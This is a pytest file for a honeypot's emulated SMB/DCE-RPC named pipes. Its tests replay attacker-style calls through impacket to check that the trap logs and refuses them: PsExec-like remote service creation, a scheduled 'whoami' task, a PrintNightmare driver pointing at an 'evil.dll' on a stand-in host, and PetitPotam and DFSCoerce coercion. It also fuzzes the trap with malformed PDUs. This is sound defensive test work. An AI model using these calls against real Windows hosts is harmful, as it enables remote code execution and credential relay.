# SPDX-License-Identifier: MIT
"""DCE/RPC on the SMB trap's named pipes (``honeyfarm.sensor.traps.smb.rpc``), driven by impacket's own
client code: ``DCERPC_v5.bind()``, ``srvs.hNetrShareEnum()``, ``scmr.hRCreateServiceW()`` and friends
run unmodified, build the PDUs and NDR stubs and decode the answers, so what the pipe sends is what
impacket's real clients accept.

:class:`PipeTransport`, an impacket ``DCERPCTransport`` whose send/recv call ``Pipe.write``/``Pipe.read``,
stands in for SMB (as impacket's ``SMBTransport`` does a WRITE and a READ on the pipe per PDU): the pipe
was written before the SMB server could carry it, and this keeps the RPC layer testable on its own. The
end-to-end ``smbclient -L`` test lives with the SMB server's tests; the last test here runs Samba's
``rpcclient`` (Samba's own NDR, not impacket's) through the SMB trap of a real sensor.
"""

from __future__ import annotations

import random
import struct
import subprocess
import sys
import time
from collections.abc import Iterator
from typing import Any

import pytest
from impacket.dcerpc.v5 import atsvc, lsad, rprn, rrp, samr, scmr, srvs, transport, tsch, wkst
from impacket.dcerpc.v5.dtypes import NULL, ULONG, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import (
    MSRPC_BIND,
    MSRPC_BINDACK,
    CtxItem,
    DCERPCException,
    MSRPCBind,
    MSRPCBindAck,
    MSRPCHeader,
    MSRPCRequestHeader,
)
from impacket.uuid import uuidtup_to_bin
from sensorutil import SensorProc, free_port, need, run_sensor, wait_port

from honeyfarm.sensor.traps.smb import rpc, rpc_ops, rpc_types
from honeyfarm.sensor.traps.smb.rpc import MAX_CALL_BYTES, MAX_FRAGMENTS, PIPES, Pipe, RPCFacts
from honeyfarm.sensor.traps.stream import Malformed

SHARES = [
    ("ADMIN$", 0x80000000, "Remote Admin"),
    ("C$", 0x80000000, "Default share"),
    ("IPC$", 0x80000003, "Remote IPC"),
    ("Finance", 0, "Quarterly reports"),
]
FACTS = RPCFacts("FILESRV01", "WORKGROUP", SHARES)
NDR = ("8a885d04-1ceb-11c9-9fe8-08002b104860", "2.0")
NDR64 = ("71710533-beba-4937-8319-b5dbef9ccc36", "1.0")
BTFN = ("6cb71c2c-9812-4540-0300-000000000000", "1.0")
OP_RNG = "nca_s_op_rng_error"


class Events(list[tuple[str, dict[str, Any]]]):
    """A list-appending ``emit`` (SessionLog.emit's signature) with a lookup by eventid."""

    def __call__(self, eventid: str, **fields: Any) -> None:
        self.append((eventid, fields))

    def of(self, eventid: str) -> list[dict[str, Any]]:
        return [f for e, f in self if e == eventid]


class PipeTransport(transport.DCERPCTransport):  # type: ignore[misc]
    """impacket's transport interface over a :class:`Pipe`: one write per PDU, one read per answer fragment."""

    def __init__(self, pipe: Pipe, read_size: int = 65536) -> None:
        super().__init__("127.0.0.1", 445)
        self.pipe: Pipe = pipe
        self.read_size = read_size

    def connect(self) -> int:
        return 1

    def disconnect(self) -> int:
        return 1

    def send(self, data: bytes, forceWriteAndx: int = 0, forceRecv: int = 0) -> None:
        self.pipe.write(data)

    def recv(self, forceRecv: int = 0, count: int = 0) -> bytes:
        data: bytes = self.pipe.read(self.read_size)
        return data

    def doesSupportNTLMv2(self) -> bool:
        return True


def connect(name: str, events: Events, iface: bytes, facts: RPCFacts = FACTS) -> Any:
    dce = PipeTransport(Pipe(name, events, facts)).get_dce_rpc()
    dce.connect()
    dce.bind(iface)
    return dce


def test_pipes_and_lazy_import() -> None:
    assert {"srvsvc", "svcctl", "samr", "lsarpc", "wkssvc", "winreg", "spoolss", "netlogon", "browser"} <= PIPES
    # impacket's RPC runtime (~17 MB) is imported on the first call, not with the module.
    code = "import sys, honeyfarm.sensor.config, honeyfarm.sensor.traps.smb.rpc; print('impacket' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True)
    assert out.stdout.strip() == "False"


def test_share_enum_lists_the_persona_shares() -> None:
    ev = Events()
    dce = connect("srvsvc", ev, srvs.MSRPC_UUID_SRVS)
    resp = srvs.hNetrShareEnum(dce, 1)
    got = [
        (s["shi1_netname"][:-1], s["shi1_type"], s["shi1_remark"][:-1])
        for s in resp["InfoStruct"]["ShareInfo"]["Level1"]["Buffer"]
    ]
    assert got == SHARES and resp["TotalEntries"] == 4
    names = [s["shi0_netname"][:-1] for s in srvs.hNetrShareEnum(dce, 0)["InfoStruct"]["ShareInfo"]["Level0"]["Buffer"]]
    assert names == [s[0] for s in SHARES]
    # Level 2 (paths) is for administrators: access denied, in the union arm of the level asked for.
    with pytest.raises(DCERPCException) as denied:
        srvs.hNetrShareEnum(dce, 2)
    assert denied.value.get_error_code() == 5
    [bind] = ev.of("smb.dcerpc.bind")
    assert bind["extra"] == {
        "pipe": "srvsvc",
        "uuid": "4b324fc8-1670-01d3-1278-5a47bf6ee188",
        "interface": "srvsvc",
        "version": "3.0",
        "transfer_syntax": "ndr",
        "context_id": 0,
        "alter_context": False,
        "result": "accepted",
    }
    req = ev.of("smb.dcerpc.request")[0]["extra"]
    assert ev.of("smb.dcerpc.request")[2]["extra"]["error"] == 5
    assert req["operation"] == "NetrShareEnum" and req["opnum"] == 15 and req["level"] == 1 and req["stub_size"] > 0
    assert req["interface"] == "srvsvc" and req["uuid"] == bind["extra"]["uuid"]


def test_server_and_share_info() -> None:
    ev = Events()
    dce = connect("srvsvc", ev, srvs.MSRPC_UUID_SRVS)
    info = srvs.hNetrServerGetInfo(dce, 101)["InfoStruct"]["ServerInfo101"]
    assert (info["sv101_platform_id"], info["sv101_name"][:-1]) == (500, "FILESRV01")
    assert (info["sv101_version_major"], info["sv101_version_minor"], info["sv101_type"]) == (10, 0, 0x9003)
    assert srvs.hNetrServerGetInfo(dce, 102)["InfoStruct"]["ServerInfo102"]["sv102_userpath"] == "c:\\\x00"
    share = srvs.hNetrShareGetInfo(dce, "c$\x00", 1)["InfoStruct"]["ShareInfo1"]
    assert (share["shi1_netname"][:-1], share["shi1_remark"][:-1]) == ("C$", "Default share")
    with pytest.raises(DCERPCException, match=r"NERR_NetNameNotFound|0x906"):
        srvs.hNetrShareGetInfo(dce, "nosuch\x00", 1)
    assert [r["extra"].get("share") for r in ev.of("smb.dcerpc.request")][2:] == ["c$", "nosuch"]


def test_psexec_style_service_install_logs_the_binary_path() -> None:
    ev = Events()
    dce = connect("svcctl", ev, scmr.MSRPC_UUID_SCMR)
    scm = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    with pytest.raises(DCERPCException, match="ERROR_SERVICE_DOES_NOT_EXIST"):
        scmr.hROpenServiceW(dce, scm, "RAnd\x00")
    binary = "%systemroot%\\XkQfLmNo.exe"
    svc = scmr.hRCreateServiceW(dce, scm, "RAnd\x00", "RAnd Display\x00", lpBinaryPathName=binary + "\x00")
    svc = scmr.hROpenServiceW(dce, scm, "rand\x00")["lpServiceHandle"]
    scmr.hRStartServiceW(dce, svc)
    assert scmr.hRQueryServiceStatus(dce, svc)["lpServiceStatus"]["dwCurrentState"] == scmr.SERVICE_RUNNING
    scmr.hRControlService(dce, svc, scmr.SERVICE_CONTROL_STOP)
    assert scmr.hRQueryServiceStatus(dce, svc)["lpServiceStatus"]["dwCurrentState"] == scmr.SERVICE_STOPPED
    scmr.hRDeleteService(dce, svc)
    scmr.hRCloseServiceHandle(dce, svc)
    scmr.hRCloseServiceHandle(dce, scm)
    reqs = ev.of("smb.dcerpc.request")
    ops = [r["extra"]["operation"] for r in reqs]
    assert ops == [
        "ROpenSCManagerW",
        "ROpenServiceW",
        "RCreateServiceW",
        "ROpenServiceW",
        "RStartServiceW",
        "RQueryServiceStatus",
        "RControlService",
        "RQueryServiceStatus",
        "RDeleteService",
        "RCloseServiceHandle",
        "RCloseServiceHandle",
    ]
    create = reqs[2]
    assert create["command"] == binary
    assert create["extra"]["service_name"] == "RAnd" and create["extra"]["display_name"] == "RAnd Display"
    assert [r.get("command") for r in reqs].count(binary) == 1
    assert reqs[1]["extra"]["error"] == 1060 and "error" not in reqs[3]["extra"]


def test_change_service_config_and_bad_handles() -> None:
    ev = Events()
    dce = connect("svcctl", ev, scmr.MSRPC_UUID_SCMR)
    scm = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    svc = scmr.hROpenServiceW(dce, scm, "Spooler\x00")["lpServiceHandle"]
    scmr.hRChangeServiceConfigW(dce, svc, lpBinaryPathName="cmd.exe /c calc.exe\x00")
    assert ev.of("smb.dcerpc.request")[-1]["command"] == "cmd.exe /c calc.exe"
    with pytest.raises(DCERPCException, match="ERROR_INVALID_HANDLE"):
        scmr.hRStartServiceW(dce, b"\x00" * 4 + b"\x11" * 16)


def test_wkssvc_lsarpc_samr_winreg() -> None:
    ev = Events()
    info = wkst.hNetrWkstaGetInfo(connect("wkssvc", ev, wkst.MSRPC_UUID_WKST), 100)["WkstaInfo"]["WkstaInfo100"]
    assert (info["wki100_computername"][:-1], info["wki100_langroup"][:-1]) == ("FILESRV01", "WORKGROUP")
    dce = connect("lsarpc", ev, lsad.MSRPC_UUID_LSAD)
    pol = lsad.hLsarOpenPolicy2(dce)["PolicyHandle"]
    acct = lsad.hLsarQueryInformationPolicy2(dce, pol, lsad.POLICY_INFORMATION_CLASS.PolicyAccountDomainInformation)
    dom = acct["PolicyInformation"]["PolicyAccountDomainInfo"]
    assert dom["DomainName"] == "FILESRV01" and dom["DomainSid"].formatCanonical().startswith("S-1-5-21-")
    prim = lsad.hLsarQueryInformationPolicy2(dce, pol, lsad.POLICY_INFORMATION_CLASS.PolicyPrimaryDomainInformation)
    assert prim["PolicyInformation"]["PolicyPrimaryDomainInfo"]["Name"] == "WORKGROUP"
    lsad.hLsarClose(dce, pol)
    # samr on the lsarpc pipe: one lsass endpoint, as on Windows.
    dce = connect("lsarpc", ev, samr.MSRPC_UUID_SAMR)
    sam = samr.hSamrConnect(dce)["ServerHandle"]
    doms = samr.hSamrEnumerateDomainsInSamServer(dce, sam)["Buffer"]["Buffer"]
    assert [d["Name"] for d in doms] == ["FILESRV01", "Builtin"]
    sid = samr.hSamrLookupDomainInSamServer(dce, sam, "filesrv01")["DomainId"]
    assert sid.formatCanonical() == dom["DomainSid"].formatCanonical()
    domain = samr.hSamrOpenDomain(dce, sam, domainId=sid)["DomainHandle"]
    users = samr.hSamrEnumerateUsersInDomain(dce, domain)["Buffer"]["Buffer"]
    assert [(u["RelativeId"], u["Name"]) for u in users] == [
        (500, "Administrator"),
        (501, "Guest"),
        (503, "DefaultAccount"),
    ]
    samr.hSamrCloseHandle(dce, domain)
    samr.hSamrCloseHandle(dce, sam)
    # LsarGetUserName: a null session, or the SMB session's user when the SMB server sets it.
    pipe = Pipe("lsarpc", ev, FACTS)
    dce = PipeTransport(pipe).get_dce_rpc()
    dce.connect()
    dce.bind(lsad.MSRPC_UUID_LSAD)
    for user, expect in (("", ["ANONYMOUS LOGON", "NT AUTHORITY"]), ("bob", ["bob", "FILESRV01"])):
        pipe.username = user
        dce.call(45, struct.pack("<I", 0) + struct.pack("<II", 0x20000, 0) + struct.pack("<II", 0x20004, 0))
        stub = dce.recv()
        # UserName: referent, RPC_UNICODE_STRING, buffer; DomainName: two referents (unique **), string, buffer.
        ulen = struct.unpack_from("<H", stub, 4)[0]
        got = [stub[24 : 24 + ulen].decode("utf-16-le")]
        off = 24 + ulen + (-ulen % 4) + 8
        dlen = struct.unpack_from("<H", stub, off)[0]
        got.append(stub[off + 20 : off + 20 + dlen].decode("utf-16-le"))
        assert got == expect and stub[-4:] == b"\0\0\0\0"
    dce = connect("winreg", ev, rrp.MSRPC_UUID_RRP)
    with pytest.raises(DCERPCException) as denied:
        rrp.hOpenLocalMachine(dce)
    assert denied.value.get_error_code() == 5  # ERROR_ACCESS_DENIED in the stub, as impacket reads it
    assert ev.of("smb.dcerpc.request")[-1]["extra"]["hive"] == "HKLM"


def test_task_scheduler_at_and_spooler_commands_are_logged() -> None:
    ev = Events()
    dce = connect("atsvc", ev, tsch.MSRPC_UUID_TSCHS)
    xml = (
        '<?xml version="1.0" encoding="UTF-16"?><Task><Actions Context="LocalSystem"><Exec>'
        "<Command>cmd.exe</Command><Arguments>/C whoami &gt; %windir%\\Temp\\x.tmp 2&gt;&amp;1</Arguments>"
        "</Exec></Actions></Task>"
    )
    tsch.hSchRpcRegisterTask(dce, "\\UpdTask\x00", xml + "\x00", tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
    tsch.hSchRpcRun(dce, "\\UpdTask\x00")
    tsch.hSchRpcDelete(dce, "\\UpdTask\x00")
    reg = ev.of("smb.dcerpc.request")[0]
    assert reg["command"] == "cmd.exe /C whoami > %windir%\\Temp\\x.tmp 2>&1"
    assert reg["extra"]["task"] == "\\UpdTask" and reg["extra"]["interface"] == "tsch"
    dce = connect("atsvc", ev, atsvc.MSRPC_UUID_ATSVC)
    at = atsvc.NetrJobAdd()
    at["ServerName"], at["pAtInfo"]["JobTime"], at["pAtInfo"]["Command"] = NULL, 0, "calc.exe\x00"
    at["pAtInfo"]["DaysOfMonth"], at["pAtInfo"]["DaysOfWeek"], at["pAtInfo"]["Flags"] = 0, 0, 0
    dce.request(at)
    assert ev.of("smb.dcerpc.request")[-1]["command"] == "calc.exe"
    dce = connect("spoolss", ev, rprn.MSRPC_UUID_RPRN)
    printer = rprn.hRpcOpenPrinter(dce, "\\\\FILESRV01\x00")["pHandle"]
    with pytest.raises(DCERPCException) as denied:
        rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
            dce, printer, rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine="\\\\192.0.2.66\x00"
        )
    assert denied.value.get_error_code() == 5
    coerce = ev.of("smb.dcerpc.request")[-1]["extra"]
    assert coerce["callback"] == "\\\\192.0.2.66" and coerce["coercion"] is True
    rprn.hRpcClosePrinter(dce, printer)
    # PrintNightmare: the attacker's DLL is the driver's config file.
    container = rprn.DRIVER_CONTAINER()
    container["Level"], container["DriverInfo"]["tag"] = 2, 2
    info = container["DriverInfo"]["Level2"]
    info["cVersion"], info["pName"], info["pEnvironment"] = 3, "1234\x00", "Windows x64\x00"
    info["pDriverPath"] = "C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64\\Amd64\\UNIDRV.DLL\x00"
    info["pDataFile"] = info["pConfigFile"] = "\\\\192.0.2.66\\share\\evil.dll\x00"
    with pytest.raises(DCERPCException) as denied:
        rprn.hRpcAddPrinterDriverEx(dce, NULL, container, 0x8014)
    assert denied.value.get_error_code() == 5
    nightmare = ev.of("smb.dcerpc.request")[-1]
    assert nightmare["command"] == "\\\\192.0.2.66\\share\\evil.dll"
    assert nightmare["extra"]["operation"] == "RpcAddPrinterDriverEx" and nightmare["extra"]["driver"] == "1234"


class EfsRpcOpenFileRaw(NDRCALL):  # type: ignore[misc]
    """As PetitPotam declares it (impacket has no EFSRPC module)."""

    opnum = 0
    structure = (("FileName", WSTR), ("Flag", ULONG))


class NetrDfsRemoveStdRoot(NDRCALL):  # type: ignore[misc]
    """As DFSCoerce declares it."""

    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", ULONG))


def test_petitpotam_and_dfscoerce_callbacks_are_logged() -> None:
    ev = Events()
    dce = connect("lsarpc", ev, uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0")))
    req = EfsRpcOpenFileRaw()
    req["FileName"], req["Flag"] = "\\\\192.0.2.66\\test\\Settings.ini\x00", 0
    dce.call(0, req.getData())
    assert dce.recv() == b"\0" * 20 + struct.pack("<I", 5)  # an empty context handle, access denied
    [call] = ev.of("smb.dcerpc.request")
    assert call["extra"]["operation"] == "EfsRpcOpenFileRaw" and call["extra"]["interface"] == "efsrpc"
    assert call["extra"]["callback"] == "\\\\192.0.2.66\\test\\Settings.ini" and call["extra"]["error"] == 5
    dce = connect("netdfs", ev, uuidtup_to_bin(("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0")))
    dfs = NetrDfsRemoveStdRoot()
    dfs["ServerName"], dfs["RootShare"], dfs["ApiFlags"] = "192.0.2.66\x00", "test\x00", 1
    dce.call(13, dfs.getData())
    assert dce.recv() == struct.pack("<I", 5)
    extra = ev.of("smb.dcerpc.request")[-1]["extra"]
    assert (extra["operation"], extra["callback"], extra["coercion"]) == ("NetrDfsRemoveStdRoot", "192.0.2.66", True)


def _bind_pdu(items: list[tuple[bytes, tuple[str, str]]], ptype: int = MSRPC_BIND) -> bytes:
    bind = MSRPCBind()
    for n, (iface, syntax) in enumerate(items):
        item = CtxItem()
        item["ContextID"], item["TransItems"] = n, 1
        item["AbstractSyntax"], item["TransferSyntax"] = iface, uuidtup_to_bin(syntax)
        bind.addCtxItem(item)
    pdu = MSRPCHeader()
    pdu["type"], pdu["pduData"], pdu["call_id"] = ptype, bind.getData(), 1
    return bytes(pdu.get_packet())


def test_bind_negotiates_like_windows() -> None:
    ev = Events()
    pipe = Pipe("srvsvc", ev, FACTS)
    iface = srvs.MSRPC_UUID_SRVS
    pipe.write(_bind_pdu([(iface, NDR64), (iface, NDR), (iface, BTFN)]))
    ack = MSRPCBindAck(pipe.read(4280))
    assert ack["type"] == MSRPC_BINDACK and ack["max_tfrag"] == 4280 and ack["SecondaryAddr"] == "\\PIPE\\srvsvc"
    results = [(c["Result"], c["Reason"]) for c in ack.getCtxItems()]
    assert results == [(2, 2), (0, 0), (3, 3)]  # NDR64 refused, NDR accepted, bind-time features acked
    assert ack.getCtxItem(2)["TransferSyntax"] == uuidtup_to_bin(NDR)
    assert [b["extra"]["result"] for b in ev.of("smb.dcerpc.bind")] == [
        "transfer syntax not supported",
        "accepted",
        "negotiate_ack",
    ]
    # svcctl is not served on \PIPE\srvsvc; an unknown UUID neither: provider rejection, abstract syntax.
    with pytest.raises(DCERPCException, match="abstract_syntax_not_supported"):
        connect("srvsvc", ev, scmr.MSRPC_UUID_SCMR)
    with pytest.raises(DCERPCException, match="abstract_syntax_not_supported"):
        connect("srvsvc", ev, uuidtup_to_bin(("01234567-89ab-cdef-0123-456789abcdef", "1.0")))
    assert ev.of("smb.dcerpc.bind")[-1]["extra"]["interface"] == "unknown"
    # alter_context adds an interface of the same endpoint (lsass serves samr and lsarpc).
    dce = connect("samr", ev, samr.MSRPC_UUID_SAMR)
    dce2 = dce.alter_ctx(lsad.MSRPC_UUID_LSAD)
    lsad.hLsarOpenPolicy2(dce2)
    assert ev.of("smb.dcerpc.bind")[-1]["extra"]["alter_context"] is True


def test_unknown_opnum_and_unbound_context_fault() -> None:
    ev = Events()
    dce = connect("srvsvc", ev, srvs.MSRPC_UUID_SRVS)
    dce.call(200, b"\x00" * 8)
    with pytest.raises(DCERPCException, match=OP_RNG):
        dce.recv()
    dce.call(13, b"\x00" * 8)  # NetrSessionDel: a real opnum, not answered by the trap
    with pytest.raises(DCERPCException, match=OP_RNG):
        dce.recv()
    assert [r["extra"]["operation"] for r in ev.of("smb.dcerpc.request")] == ["opnum 200", "NetrSessionDel"]
    assert ev.of("smb.dcerpc.request")[0]["extra"]["fault"] == "0x1c010002"
    dce.set_ctx_id(7)  # a context never bound
    dce.call(15, b"")
    with pytest.raises(DCERPCException, match="nca_s_unk_if"):
        dce.recv()
    srvs.hNetrShareEnum(connect("srvsvc", ev, srvs.MSRPC_UUID_SRVS), 1)  # a fresh pipe still serves


def test_fragments_in_and_out() -> None:
    ev = Events()
    many = [(f"share{i:03d}", 0, "x" * 40) for i in range(300)]  # ~40 KB answer: ten 4280-byte fragments
    pipe = Pipe("srvsvc", ev, RPCFacts("FILESRV01", "WORKGROUP", many))
    dce = PipeTransport(pipe).get_dce_rpc()
    dce.set_max_fragment_size(16)  # the request goes out in 16-byte fragments
    dce.connect()
    dce.bind(srvs.MSRPC_UUID_SRVS)
    resp = srvs.hNetrShareEnum(dce, 1)
    assert len(resp["InfoStruct"]["ShareInfo"]["Level1"]["Buffer"]) == 300
    assert ev.of("smb.dcerpc.request")[0]["extra"]["stub_size"] > 16
    # A short read keeps the rest of the fragment (message mode: STATUS_BUFFER_OVERFLOW for the SMB server).
    req = srvs.NetrShareEnum()
    req["ServerName"], req["InfoStruct"]["Level"] = NULL, 1
    req["InfoStruct"]["ShareInfo"]["tag"], req["InfoStruct"]["ShareInfo"]["Level1"]["Buffer"] = 1, NULL
    req["PreferedMaximumLength"], req["ResumeHandle"] = 0xFFFFFFFF, NULL
    call = MSRPCRequestHeader()
    call["op_num"], call["pduData"], call["call_id"] = 15, req.getData(), 9
    first = pipe.transact(call.get_packet(), 100)
    assert len(first) == 100 and pipe.message_left == 4280 - 100 and pipe.pending > 40000
    rest = pipe.read(65536)
    assert len(rest) == 4180 and pipe.message_left == 0
    assert struct.unpack_from("<H", first, 8)[0] == 4280  # frag_len of each fragment is the negotiated max


def test_hostile_pdus_are_capped(monkeypatch: pytest.MonkeyPatch) -> None:
    ev = Events()
    with pytest.raises(Malformed, match="version"):
        Pipe("srvsvc", ev, FACTS).write(b"\x04\x00\x0b\x03\x10\x00\x00\x00" + b"\x00" * 8)
    with pytest.raises(Malformed, match="big-endian"):
        Pipe("srvsvc", ev, FACTS).write(b"\x05\x00\x0b\x03\x00\x00\x00\x00" + b"\x00" * 8)
    with pytest.raises(Malformed, match="context list"):
        Pipe("srvsvc", ev, FACTS).write(
            struct.pack("<BBBB4sHHI", 5, 0, 11, 3, b"\x10\0\0\0", 28, 0, 1) + b"\0" * 8 + b"\x05\0\0\0"
        )
    # Many PDUs in one write are all answered (here: three binds).
    pipe = Pipe("srvsvc", ev, FACTS)
    pipe.write(_bind_pdu([(srvs.MSRPC_UUID_SRVS, NDR)]) * 3)
    assert [len(pipe.read(4280)) > 0 for _ in range(4)] == [True, True, True, False]
    # A frag_len announced but not sent is waited for without allocating it.
    pipe = Pipe("srvsvc", ev, FACTS)
    pipe.write(struct.pack("<BBBB4sHHI", 5, 0, 0, 3, b"\x10\0\0\0", 0xFFFF, 0, 1))
    assert pipe.read(100) == b""
    # A call in more than MAX_FRAGMENTS fragments, or more than MAX_CALL_BYTES, closes the connection.
    dce = connect("srvsvc", ev, srvs.MSRPC_UUID_SRVS)
    pipe = dce.get_rpc_transport().pipe

    def frag(flags: int, stub: bytes) -> bytes:
        return (
            struct.pack("<BBBB4sHHI", 5, 0, 0, flags, b"\x10\0\0\0", 24 + len(stub), 0, 5)
            + struct.pack("<IHH", 0, 0, 15)
            + stub
        )

    pipe.write(frag(1, b"a"))
    with pytest.raises(Malformed, match="fragments"):
        for _ in range(MAX_FRAGMENTS):
            pipe.write(frag(0, b"a"))
    pipe = connect("srvsvc", ev, srvs.MSRPC_UUID_SRVS).get_rpc_transport().pipe
    big = b"\0" * 60000
    pipe.write(frag(1, big))
    with pytest.raises(Malformed, match="bytes"):
        for _ in range(MAX_CALL_BYTES // len(big) + 1):
            pipe.write(frag(0, big))
    with pytest.raises(Malformed, match="no call"):
        connect("srvsvc", ev, srvs.MSRPC_UUID_SRVS).get_rpc_transport().pipe.write(frag(2, b"x"))
    # A hostile NDR count: a bad-stub fault, quickly, and the pipe goes on serving.
    dce = connect("srvsvc", ev, srvs.MSRPC_UUID_SRVS)
    t0 = time.monotonic()
    dce.call(16, b"\0\0\0\0" + struct.pack("<III", 0xFFFFFFFF, 0, 0xFFFFFFFF) + b"A\0" * 3000)
    with pytest.raises(DCERPCException, match="rpc_x_bad_stub_data"):
        dce.recv()
    assert time.monotonic() - t0 < 1.0
    assert len(srvs.hNetrShareEnum(dce, 1)["InfoStruct"]["ShareInfo"]["Level1"]["Buffer"]) == 4
    # 40 KiB of task credentials (structures impacket decodes slowly) are not decoded at all.
    task = tsch.SchRpcRegisterTask()
    task["path"], task["xml"], task["flags"], task["sddl"], task["logonType"] = NULL, "<Task/>\x00", 0, NULL, 0
    for _ in range(3400):
        cred = tsch.TASK_USER_CRED()
        cred["userId"], cred["password"], cred["flags"] = NULL, NULL, 0
        task["pCreds"].append(cred)
    task["cCreds"] = 3400
    stub = task.getData()
    dce = connect("atsvc", ev, tsch.MSRPC_UUID_TSCHS)
    t0 = time.monotonic()
    dce.call(1, stub)
    dce.recv()
    # Decoding them would take ~0.6 s on an idle machine; skipping them takes milliseconds.
    assert time.monotonic() - t0 < 0.3 and ev.of("smb.dcerpc.request")[-1]["extra"]["credentials"] == 3400
    # Answers a client never reads are capped (at 64 KiB here rather than 1 MiB, to stay quick).
    monkeypatch.setattr(rpc, "MAX_PENDING_OUT", 65536)
    pipe = connect("srvsvc", ev, srvs.MSRPC_UUID_SRVS).get_rpc_transport().pipe
    with pytest.raises(Malformed, match="does not read"):
        for _ in range(65536 // 32 + 1):
            pipe.write(frag(3, b"\0" * 8))


def _valid_stream() -> list[bytes]:
    """PDUs of a real session (bind, share enum, service creation) as impacket's clients write them."""
    sent: list[bytes] = []

    class Tap(PipeTransport):
        def send(self, data: bytes, forceWriteAndx: int = 0, forceRecv: int = 0) -> None:
            sent.append(bytes(data))
            super().send(data)

    dce = Tap(Pipe("svcctl", Events(), FACTS)).get_dce_rpc()
    dce.connect()
    dce.bind(scmr.MSRPC_UUID_SCMR)
    scm = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    scmr.hRCreateServiceW(dce, scm, "x\x00", "x\x00", lpBinaryPathName="c:\\x.exe\x00")
    return sent


def test_fuzz_mutated_pdus_never_crash_the_pipe() -> None:
    rng = random.Random(14)
    stream = _valid_stream()
    t0 = time.monotonic()
    outcomes = {"served": 0, "malformed": 0}
    for _ in range(3000):
        pdus = [bytearray(p) for p in stream]
        victim = pdus[rng.randrange(len(pdus))]
        for _ in range(rng.randint(1, 6)):
            pos = rng.randrange(len(victim))
            kind = rng.random()
            if kind < 0.6:
                victim[pos] = rng.randrange(256)
            elif kind < 0.8:
                victim[pos : pos + 4] = struct.pack("<I", rng.choice([0, 0xFFFF, 0x7FFFFFFF, 0xFFFFFFFF]))
            else:
                del victim[pos:]
                victim += rng.randbytes(rng.randrange(64))
        pipe = Pipe("svcctl", Events(), FACTS)
        try:
            for p in pdus:
                pipe.write(bytes(p))
                while pipe.read(65536):
                    pass
            outcomes["served"] += 1
        except Malformed:
            outcomes["malformed"] += 1
    assert outcomes["served"] > 100 and outcomes["malformed"] > 100
    # Mutated and random stubs for every operation the trap decodes, behind a valid header: always an
    # answer (response or fault), never an exception, and no call holds the event loop for long.
    ev = Events()
    stub = MSRPCRequestHeader(stream[2])["pduData"]
    slowest = 0.0
    for iface_name, opnum in sorted(rpc_ops.HANDLERS):
        iface = next(i for i in rpc_types.IFACES.values() if i.name == iface_name)
        pipe_name = next(p for p, (_addr, served) in rpc._ENDPOINTS.items() if iface_name in served)
        pipe = (
            connect(pipe_name, ev, uuidtup_to_bin((iface.uuid, f"{iface.version[0]}.{iface.version[1]}")))
            .get_rpc_transport()
            .pipe
        )
        for i in range(40):
            bad = bytearray(stub if i % 2 else rng.randbytes(rng.randrange(400)))
            for _ in range(rng.randint(0, 8)):
                if bad:
                    bad[rng.randrange(len(bad))] = rng.randrange(256)
            call = MSRPCRequestHeader()
            call["op_num"], call["pduData"], call["call_id"] = opnum, bytes(bad[: rng.randrange(len(bad) + 1)]), i
            t1 = time.monotonic()
            pipe.write(call.get_packet())
            slowest = max(slowest, time.monotonic() - t1)
            assert pipe.read(65536)[2] in (2, 3)  # response or fault
    assert slowest < 0.5  # ~50 ms at worst on an idle machine (4 KiB stubs of NDR structures)
    assert srvs.hNetrShareEnum(connect("srvsvc", ev, srvs.MSRPC_UUID_SRVS), 1)["TotalEntries"] == 4
    assert time.monotonic() - t0 < 20


# --- Samba's rpcclient through the SMB trap of a real sensor -------------------------------------


@pytest.fixture(scope="module")
def smb_sensor(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SensorProc, int]]:
    if need("rpcclient"):
        pytest.skip(need("rpcclient") or "")
    port = free_port()
    overrides: dict[str, dict[str, Any]] = {
        "sensor.smb": {"enabled": True, "listen": [f"127.0.0.1:{port}"], "netbios_listen": []}
    }
    with run_sensor(tmp_path_factory.mktemp("sensor"), overrides) as sp:
        wait_port(port, proc=sp.proc)
        yield sp, port


def test_samba_rpcclient_reads_the_answers(smb_sensor: tuple[SensorProc, int]) -> None:
    sp, port = smb_sensor
    commands = (
        "srvinfo; netshareenumall 1; netshareenumall; netsharegetinfo C$ 1; lsaquery; enumdomusers; getusername;"
        " querydominfo; querydispinfo; queryaliasmem builtin 544; lookupsids S-1-5-32-544 S-1-5-11"
    )
    out = subprocess.run(
        ["rpcclient", "-N", "-U%", "-p", str(port), "127.0.0.1", "-c", commands],
        capture_output=True,
        text=True,
        timeout=60,
    ).stdout
    assert "platform_id     :\t500" in out and "os version      :\t10.0" in out and "0x9003" in out
    assert "netname: ADMIN$" in out and "netname: IPC$" in out and "remark:\tRemote IPC" in out
    assert "result was WERR_ACCESS_DENIED" in out  # level 2 (share paths): administrators only
    assert "Domain Name: WORKGROUP" in out and "Domain Sid: (NULL SID)" in out
    assert "user:[Administrator] rid:[0x1f4]" in out and "user:[Guest] rid:[0x1f5]" in out
    assert "Account Name: ANONYMOUS LOGON, Authority Name: NT AUTHORITY" in out
    assert "Total Users:\t3" in out and "Unknown 3:\t0x1\n" in out  # padding as Windows sends it: zeros
    assert "index: 0x2 RID: 0x1f5 acb: 0x00000215 Account: Guest" in out
    assert "S-1-5-32-544 BUILTIN\\Administrators (4)" in out and "NT AUTHORITY\\Authenticated Users (5)" in out
    assert "sid:[S-1-5-21-" in out  # Administrators has the machine's Administrator
    evs = sp.wait_for(lambda evs: sum(e["eventid"] == "smb.dcerpc.request" for e in evs) >= 20)
    ops = {e["extra"]["operation"] for e in evs if e["eventid"] == "smb.dcerpc.request"}
    assert {"NetrServerGetInfo", "NetrShareEnum", "NetrShareGetInfo", "LsarGetUserName", "SamrOpenDomain"} <= ops
